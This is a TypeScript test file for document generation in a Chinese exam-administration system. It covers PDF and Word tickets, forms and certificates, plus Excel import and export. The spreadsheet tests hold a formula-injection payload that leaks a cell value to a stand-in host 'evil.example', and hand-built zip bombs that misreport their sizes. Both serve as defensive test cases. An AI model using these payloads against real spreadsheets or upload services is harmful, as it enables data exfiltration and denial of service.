import { execFileSync } from "node:child_process";
import { randomUUID } from "node:crypto";
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import path from "node:path";
import { deflateRawSync } from "node:zlib";

import ExcelJS from "exceljs";
import { strFromU8, unzipSync } from "fflate";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { renderCertificatePdf } from "./certificate-pdf";
import { qrPngBuffer, qrPngDataUrl } from "./qr";
import { renderRegistrationFormPdf } from "./registration-form-pdf";
import { renderTicketDocx } from "./ticket-docx";
import { renderTicketPdf } from "./ticket-pdf";
import type { CertificateData, RegistrationFormData, TicketData } from "./types";
import { columnLetter, readXlsxRows, safeCellText, writeXlsx, XLSX_ERRORS } from "./xlsx";

const TMP = path.join(process.cwd(), ".tmp", `documents-test-${process.pid}`);

beforeAll(() => mkdirSync(TMP, { recursive: true }));
afterAll(() => rmSync(TMP, { recursive: true, force: true }));

function tool(cmd: string, args: string[]): string {
  try {
    return execFileSync(cmd, args, { encoding: "utf8" });
  } catch (err) {
    if ((err as NodeJS.ErrnoException).code === "ENOENT") {
      throw new Error(`${cmd} not found: install poppler-utils (apt-get install poppler-utils)`);
    }
    throw err;
  }
}

function writeTmp(buf: Buffer, ext: string): string {
  const file = path.join(TMP, `${randomUUID()}.${ext}`);
  writeFileSync(file, buf);
  return file;
}

/** Text of the PDF with all whitespace removed, so values that wrap across lines still match. */
function pdfText(pdf: Buffer): string {
  return tool("pdftotext", ["-enc", "UTF-8", writeTmp(pdf, "pdf"), "-"]).replace(/\s+/g, "");
}

/** Embedded raster images, not counting the soft masks that carry PNG alpha. */
function pdfImages(pdf: Buffer): { width: number; height: number }[] {
  return tool("pdfimages", ["-list", writeTmp(pdf, "pdf")])
    .split("\n")
    .slice(2)
    .map((line) => line.trim().split(/\s+/))
    .filter((cols) => cols[2] === "image")
    .map((cols) => ({ width: Number(cols[3]), height: Number(cols[4]) }));
}

function pdfPageCount(pdf: Buffer): number {
  const m = /Pages:\s+(\d+)/.exec(tool("pdfinfo", [writeTmp(pdf, "pdf")]));
  return m ? Number(m[1]) : 0;
}

const strip = (s: string) => s.replace(/\s+/g, "");

// Rendering shares two cores with whatever else runs (builds, browsers); the default 5 s is too tight then.
const SLOW = { timeout: 30_000 };

let photo: Buffer;

beforeAll(async () => {
  // A stand-in for a normalised one-inch photo: light background, a darker "head" so it is not a flat colour.
  const head = await sharp({ create: { width: 150, height: 190, channels: 3, background: "#8a6a55" } })
    .png()
    .toBuffer();
  photo = await sharp({ create: { width: 295, height: 413, channels: 3, background: "#dbe7f5" } })
    .composite([{ input: head, left: 72, top: 70 }])
    .jpeg({ quality: 88 })
    .toBuffer();
});

const ticket = (): TicketData => ({
  ticketNo: "2025110100123",
  name: "张三丰",
  gender: "男",
  idType: "居民身份证",
  idNumber: "11010119900307663X",
  tradeName: "施工员（土建方向）",
  planName: "2025年第四季度北京市建设行业从业人员岗位考试",
  examDate: "2025年11月22日（星期六）",
  examTime: "09:00—11:00",
  venueName: "北京市建设职业技能培训学校",
  venueAddress: "北京市丰台区南四环西路188号总部基地十二区28号楼三层东侧考试中心（地铁9号线科怡路站B口向南800米）",
  roomName: "第12考场",
  seatNo: "27",
  notes: [
    "1. 考生须凭准考证和有效身份证件原件参加考试，二者缺一不可。",
    "2. 考生应在考试开始前30分钟到达考点，开考15分钟后不得入场，考试开始后60分钟内不得交卷离场。",
    "3. 严禁携带手机、智能手表等通讯工具及书籍资料进入考场，违者按违纪处理。",
    "4. 考生须服从监考人员管理，遵守考场纪律。",
  ].join("\n"),
  photoJpeg: photo,
  verifyUrl: "https://kaowu.example.gov.cn/verify/ticket/2025110100123?sig=3f9a1c",
  issuer: "北京市建设行业从业人员考务中心",
});

const registration = (): RegistrationFormData => ({
  registrationNo: "BM202511000456",
  planName: "2025年第四季度北京市建设行业从业人员岗位考试",
  tradeName: "安全员（C类）",
  name: "李晓梅",
  gender: "女",
  idType: "居民身份证",
  idNumber: "110105198803154428",
  birthDate: "1988-03-15",
  phone: "13912345678",
  education: "大学本科",
  employerName: "北京城建第六建设工程有限公司",
  employerCode: "91110105MA01ABCD2X",
  workStartDate: "2010-07-01",
  yearsOfWork: 15,
  resume: [
    { period: "2010.07—2015.06", employer: "北京住总第三开发建设有限公司", post: "施工员" },
    { period: "2015.07—至今", employer: "北京城建第六建设工程有限公司", post: "安全员" },
  ],
  employerOpinion: "该同志自2015年起在我单位从事施工现场安全管理工作，所填信息属实，同意报考。",
  statusLabel: "待审核",
  submittedAt: "2025-10-08 14:32",
  photoJpeg: photo,
});

const certificate = (): CertificateData => ({
  certificateNo: "京建安C（2025）0012345",
  name: "王建国",
  gender: "男",
  idNumber: "110101********663X",
  tradeName: "施工员（土建方向）",
  issueDate: "2025年12月20日",
  validUntil: "2030年12月19日",
  issuer: "北京市住房和城乡建设委员会",
  statusLabel: "有效",
  version: 1,
  printedAt: "2026-12-02 09:30",
  photoJpeg: photo,
  verifyUrl: "https://kaowu.example.gov.cn/verify/cert/9c1e2d",
});

describe("qr", () => {
  it("produces a PNG buffer and a data URL", async () => {
    const png = await qrPngBuffer("https://kaowu.example.gov.cn/verify/x");
    expect(png.subarray(1, 4).toString("ascii")).toBe("PNG");
    expect(await qrPngDataUrl("x")).toMatch(/^data:image\/png;base64,/);
  });
});

describe("ticket PDF", SLOW, () => {
  it("renders the labels, values, photo and QR on one A4 page", async () => {
    const t0 = performance.now();
    const pdf = await renderTicketPdf(ticket());
    const cold = performance.now() - t0;

    const warm: number[] = [];
    for (let i = 0; i < 5; i++) {
      const t = performance.now();
      await renderTicketPdf(ticket());
      warm.push(performance.now() - t);
    }
    warm.sort((a, b) => a - b);
    console.log(
      `[bench] ticket PDF: cold ${cold.toFixed(0)} ms, warm median ${warm[2].toFixed(0)} ms ` +
        `(min ${warm[0].toFixed(0)}, max ${warm[4].toFixed(0)}), ${(pdf.length / 1024).toFixed(1)} KB`,
    );

    expect(pdf.subarray(0, 5).toString("ascii")).toBe("%PDF-");
    expect(pdf.length).toBeLessThan(300 * 1024);
    expect(pdfPageCount(pdf)).toBe(1);

    const text = pdfText(pdf);
    const data = ticket();
    for (const label of [
      "准考证",
      "准考证号",
      "姓名",
      "性别",
      "证件号码",
      "报考岗位",
      "考试名称",
      "考试日期",
      "考试时间",
      "考点",
      "考点地址",
      "考场",
      "座位号",
      "考生须知",
      "扫码核验准考证",
    ]) {
      expect(text, label).toContain(label);
    }
    for (const v of [
      data.ticketNo,
      data.name,
      data.idNumber,
      data.tradeName,
      data.planName,
      data.examDate,
      data.examTime,
      data.venueName,
      data.venueAddress,
      data.roomName,
      data.issuer,
      "开考15分钟后不得入场",
      "遵守考场纪律",
    ]) {
      expect(text, v).toContain(strip(v));
    }

    const images = pdfImages(pdf);
    expect(images.length).toBeGreaterThanOrEqual(2);
    expect(images).toContainEqual({ width: 295, height: 413 });
  });

  it("draws a placeholder box instead of a missing or non-image photo", async () => {
    for (const photoJpeg of [null, Buffer.from("not a jpeg")]) {
      const pdf = await renderTicketPdf({ ...ticket(), photoJpeg });
      expect(pdfText(pdf)).toContain("照片");
      expect(pdfImages(pdf)).toHaveLength(1); // the QR code only
    }
  });
});

describe("registration form PDF", SLOW, () => {
  it("renders the form with CV table, employer opinion and photo", async () => {
    const t0 = performance.now();
    const pdf = await renderRegistrationFormPdf(registration());
    console.log(`[bench] registration form PDF: ${(performance.now() - t0).toFixed(0)} ms, ${(pdf.length / 1024).toFixed(1)} KB`);
    expect(pdf.length).toBeLessThan(300 * 1024);
    expect(pdfPageCount(pdf)).toBe(1);

    const text = pdfText(pdf);
    const data = registration();
    for (const s of [
      "建设行业从业人员考试报名表",
      "报名编号",
      "证件类型",
      "出生日期",
      "联系电话",
      "文化程度",
      "考试计划",
      "报考岗位",
      "聘用单位",
      "参加工作时间",
      "从事工作年限",
      "个人简历",
      "起止时间",
      "工作单位",
      "岗位",
      "聘用单位意见",
      "报名状态",
      "提交时间",
      data.registrationNo,
      data.name,
      data.idNumber,
      data.phone,
      data.employerName,
      data.employerCode,
      data.workStartDate,
      "15年",
      data.resume[0].period,
      data.resume[0].employer,
      data.resume[1].post,
      data.employerOpinion,
      data.statusLabel,
      data.submittedAt,
    ]) {
      expect(text, s).toContain(strip(s));
    }
    expect(pdfImages(pdf)).toContainEqual({ width: 295, height: 413 });
  });

  it("flows a long CV onto a second page instead of clipping it", async () => {
    const resume = Array.from({ length: 40 }, (_, i) => ({
      period: `${1990 + i}.01—${1990 + i}.12`,
      employer: `北京第${i + 1}建筑工程有限公司`,
      post: "施工员",
    }));
    const pdf = await renderRegistrationFormPdf({ ...registration(), resume });
    expect(pdfPageCount(pdf)).toBeGreaterThanOrEqual(2);
    const text = pdfText(pdf);
    expect(text).toContain("北京第40建筑工程有限公司");
    expect(text).toContain("聘用单位意见");
  });
});

describe("certificate PDF", SLOW, () => {
  it("renders the certificate with photo and verification QR", async () => {
    const t0 = performance.now();
    const pdf = await renderCertificatePdf(certificate());
    console.log(`[bench] certificate PDF: ${(performance.now() - t0).toFixed(0)} ms, ${(pdf.length / 1024).toFixed(1)} KB`);
    expect(pdf.length).toBeLessThan(300 * 1024);
    expect(pdfPageCount(pdf)).toBe(1);
    const text = pdfText(pdf);
    const data = certificate();
    for (const s of [
      "建设行业从业人员岗位证书",
      "证书编号",
      "扫码验证证书真伪",
      "发证机关",
      "有效期至",
      data.certificateNo,
      data.name,
      data.idNumber,
      data.tradeName,
      data.issueDate,
      data.validUntil,
      data.issuer,
      data.statusLabel,
    ]) {
      expect(text, s).toContain(strip(s));
    }
    expect(pdfImages(pdf).length).toBeGreaterThanOrEqual(2);
  });
});

describe("ticket Word document", SLOW, () => {
  it("holds the ticket table, photo and QR", async () => {
    const t0 = performance.now();
    const docx = await renderTicketDocx(ticket());
    console.log(`[bench] ticket DOCX: ${(performance.now() - t0).toFixed(0)} ms, ${(docx.length / 1024).toFixed(1)} KB`);
    const files = unzipSync(new Uint8Array(docx));
    const xml = strFromU8(files["word/document.xml"]);
    for (const s of ["准考证", "准考证号", "座位号", "考生须知", "扫码核验准考证", "2025110100123", "张三丰", "第12考场"]) {
      expect(xml, s).toContain(s);
    }
    const media = Object.keys(files).filter((name) => name.startsWith("word/media/"));
    expect(media).toHaveLength(2);
    const kinds = media.map((m) => {
      const b = files[m];
      return b[0] === 0xff && b[1] === 0xd8 ? "jpeg" : b[1] === 0x50 && b[2] === 0x4e ? "png" : "other";
    });
    expect(kinds.sort()).toEqual(["jpeg", "png"]);
  });

  it("writes a placeholder when there is no photo", async () => {
    const files = unzipSync(new Uint8Array(await renderTicketDocx({ ...ticket(), photoJpeg: null })));
    expect(strFromU8(files["word/document.xml"])).toContain("照片");
    expect(Object.keys(files).filter((n) => n.startsWith("word/media/"))).toHaveLength(1);
  });
});

// ---------------------------------------------------------------------------------------------------------

describe("safeCellText", () => {
  it("prefixes formula-like text and leaves numbers and dates alone", () => {
    expect(safeCellText('=HYPERLINK("http://evil.example","点我")')).toBe('\'=HYPERLINK("http://evil.example","点我")');
    for (const s of ["+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "＝1+1", "＋86", "－1", "＠A1"]) {
      expect(safeCellText(s)).toBe(`'${s}`);
    }
    expect(safeCellText("张三")).toBe("张三");
    expect(safeCellText("a=b")).toBe("a=b");
    expect(safeCellText(-5)).toBe(-5);
    expect(safeCellText(Number.NaN)).toBeNull();
    const d = new Date(Date.UTC(2025, 0, 2));
    expect(safeCellText(d)).toBe(d);
    expect(safeCellText(null)).toBeNull();
    expect(safeCellText(undefined)).toBeNull();
    expect(safeCellText(true)).toBe("true");
  });
});

describe("columnLetter", () => {
  it("maps 0-based indexes to Excel letters", () => {
    expect([0, 1, 25, 26, 27, 51, 52, 701, 702, 16383].map(columnLetter)).toEqual([
      "A",
      "B",
      "Z",
      "AA",
      "AB",
      "AZ",
      "BA",
      "ZZ",
      "AAA",
      "XFD",
    ]);
  });
});

describe("writeXlsx / readXlsxRows", SLOW, () => {
  it("round-trips values with formula text neutralised and no formula in the sheet XML", async () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")';
    const born = new Date(Date.UTC(1988, 2, 15));
    const buf = await writeXlsx([
      {
        name: "合格名单",
        columns: [
          { header: "姓名", key: "name" },
          { header: "备注", key: "note", width: 40 },
          { header: "成绩", key: "score" },
          { header: "出生日期", key: "born" },
        ],
        rows: [
          { name: "张三", note: evil, score: 86.5, born },
          { name: "李四", note: "+8613912345678", score: -1, born: null },
          { name: "@王五", note: "正常备注", score: 90, born },
        ],
      },
    ]);

    const files = unzipSync(new Uint8Array(buf));
    const sheetXml = strFromU8(files["xl/worksheets/sheet1.xml"]);
    expect(sheetXml).not.toMatch(/<f[ >]/);
    expect(sheetXml).toContain('state="frozen"');
    expect(strFromU8(files["xl/workbook.xml"])).toContain("合格名单");

    const res = await readXlsxRows(buf, {});
    expect(res.ok).toBe(true);
    if (!res.ok) return;
    expect(res.header).toEqual(["姓名", "备注", "成绩", "出生日期"]);
    expect(res.rows.map((r) => r.rowNumber)).toEqual([2, 3, 4]);
    expect(res.rows[0].cells[1]).toBe(`'${evil}`);
    expect(String(res.rows[0].cells[1]).startsWith("'")).toBe(true);
    expect(res.rows[0].cells[2]).toBe(86.5);
    expect(res.rows[0].cells[3]).toEqual(born);
    expect(res.rows[1].cells).toEqual(["李四", "'+8613912345678", -1, null]);
    expect(res.rows[2].cells[0]).toBe("'@王五");

    // The header row is bold in the written file.
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as Parameters<typeof wb.xlsx.load>[0]);
    expect(wb.worksheets[0].getRow(1).getCell(1).font?.bold).toBe(true);
  });

  it("resolves rich text, hyperlinks and formula results, and keeps Excel row numbers across blank rows", async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet("说明"); // the data is on the second tab
    const ws = wb.addWorksheet("报名信息");
    ws.addRow(["姓名", "证件号码", "单位", "年限", "参加工作时间"]);
    ws.addRow([
      { richText: [{ text: "张" }, { font: { bold: true }, text: "三" }] },
      "11010119900307663X",
      { text: "北京城建", hyperlink: "https://example.com" },
      { formula: "2025-2010", result: 15 },
      new Date(Date.UTC(2010, 6, 1)),
    ]);
    ws.addRow([]);
    ws.getRow(4).getCell(1).value = "李四";
    ws.getRow(4).getCell(4).value = { formula: "1/0", result: { error: "#DIV/0!" } };
    ws.getRow(6).getCell(2).value = "  "; // whitespace-only row counts as blank
    ws.getRow(7).getCell(1).value = "王五";
    const buf = Buffer.from(await wb.xlsx.writeBuffer());

    const res = await readXlsxRows(buf, { sheet: 1 });
    expect(res.ok).toBe(true);
    if (!res.ok) return;
    expect(res.header).toEqual(["姓名", "证件号码", "单位", "年限", "参加工作时间"]);
    expect(res.rows.map((r) => r.rowNumber)).toEqual([2, 4, 7]);
    expect(res.rows[0].cells).toEqual(["张三", "11010119900307663X", "北京城建", 15, new Date(Date.UTC(2010, 6, 1))]);
    expect(res.rows[1].cells).toEqual(["李四", null, null, "#DIV/0!", null]);
    expect(res.rows[2].cells).toHaveLength(5);
    expect(`第 ${res.rows[1].rowNumber} 行 ${columnLetter(3)} 列`).toBe("第 4 行 D 列");

    expect(await readXlsxRows(buf, { sheet: 5 })).toEqual({ ok: false, error: "Excel 文件中没有第 6 个工作表" });
    expect(await readXlsxRows(buf, { sheet: 1, maxRows: 2 })).toEqual({
      ok: false,
      error: "数据行数超过上限（最多 2 行）",
    });
  });

  it("refuses files that are not .xlsx", async () => {
    const ole = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Array(600).fill(0)]);
    const docx = await renderTicketDocx({ ...ticket(), photoJpeg: null });
    for (const buf of [Buffer.from("姓名,证件号码\n张三,110101\n"), ole, docx, Buffer.alloc(0)]) {
      expect(await readXlsxRows(buf, {})).toEqual({ ok: false, error: "请上传 .xlsx 格式的 Excel 文件" });
    }
  });

  it("refuses a truncated or oversized upload", async () => {
    const good = await writeXlsx([{ name: "S", columns: [{ header: "a", key: "a" }], rows: [{ a: 1 }] }]);
    expect(await readXlsxRows(good.subarray(0, good.length - 40), {})).toEqual({
      ok: false,
      error: XLSX_ERRORS.tooLargeOrCorrupt,
    });
    expect(await readXlsxRows(good, { maxBytes: 1000 })).toEqual({ ok: false, error: "文件过大或已损坏" });
  });

  it("refuses a zip bomb by its declared sizes before inflating anything", async () => {
    // 120 MB of one repeated byte deflates to ~120 KB: an honest bomb, caught by the central directory sum.
    const payload = Buffer.alloc(120 * 1024 * 1024, 0x20);
    const bomb = rawZip([...skeleton(), { name: "xl/worksheets/sheet1.xml", body: deflateRawSync(payload), size: payload.length }]);
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const t0 = performance.now();
    expect(await readXlsxRows(bomb, {})).toEqual({ ok: false, error: "文件过大或已损坏" });
    expect(performance.now() - t0).toBeLessThan(500);
  });

  it("refuses a zip bomb that lies about its sizes", async () => {
    // Declares 1 KB but inflates to 50 MB: JSZip (inside exceljs) would inflate it all before noticing.
    const payload = Buffer.alloc(50 * 1024 * 1024, 0x20);
    const liar = rawZip([...skeleton(), { name: "xl/worksheets/sheet1.xml", body: deflateRawSync(payload), size: 1024 }]);
    expect(await readXlsxRows(liar, {})).toEqual({ ok: false, error: "文件过大或已损坏" });
    // Honest about this entry but over the overall budget once actually inflated.
    const honest = rawZip([...skeleton(), { name: "xl/worksheets/sheet1.xml", body: deflateRawSync(payload), size: payload.length }]);
    expect(await readXlsxRows(honest, { maxUncompressedBytes: 10 * 1024 * 1024 })).toEqual({
      ok: false,
      error: "文件过大或已损坏",
    });
  });
});

type RawEntry = { name: string; body: Buffer; size: number };

function skeleton(): RawEntry[] {
  return [
    { name: "[Content_Types].xml", body: deflateRawSync(Buffer.from("<Types/>")), size: 8 },
    { name: "xl/workbook.xml", body: deflateRawSync(Buffer.from("<workbook/>")), size: 11 },
  ];
}

/**
 * Writes a ZIP by hand from already-deflated bodies, so a test can declare any size it likes (fflate's
 * zipSync always tells the truth, and deflating 200 MB in JavaScript takes seconds).
 */
function rawZip(entries: RawEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const { name, body, size } of entries) {
    const nameBuf = Buffer.from(name, "utf8");
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(8, 8); // deflate
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(nameBuf.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(nameBuf.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBuf, body);
    centrals.push(central, nameBuf);
    offset += 30 + nameBuf.length + body.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}
